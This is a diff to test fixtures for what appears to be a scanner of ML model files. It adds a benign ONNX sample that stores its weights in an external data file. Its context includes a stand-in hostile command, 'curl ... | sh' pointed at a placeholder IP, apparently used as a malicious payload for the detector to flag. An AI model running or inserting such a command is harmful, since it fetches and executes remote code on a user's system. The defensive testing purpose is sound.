@@ -2,10 +2,11 @@
 
 from __future__ import annotations
 
+import struct
 from collections.abc import Iterator
 
 from tests.scanning.sample import Expected, Sample, benign, malformed, malicious
-from tests.scanning.wire import Value, field, message
+from tests.scanning.wire import Value, entry, field, message
 
 FLOAT, INT64, STRING, INT4 = 1, 7, 8, 22
 COMMAND = "curl -s http://203.0.113.18/s | sh"
@@ -149,6 +150,22 @@ def _benign() -> Iterator[Sample]:
                 )
             ),
             "weights.bin.json": b'{"twenty bytes": 1234}',
+        },
+    )
+    numbers = struct.pack("<16f", *(0.01 * index - 0.07 for index in range(16)))
+    yield Sample(
+        "outside-numbers",
+        Expected.BENIGN,
+        {
+            "model.onnx": model(
+                graph(
+                    node("MatMul"),
+                    tensors=(
+                        tensor("w", [16], (13, entry("location", "model.onnx.data")), (14, 1)),
+                    ),
+                )
+            ),
+            "model.onnx.data": numbers,
         },
     )
     yield benign("tensor", "test_data_set_0/input_0.pb", tensor("x", [4], raw=bytes(16)))
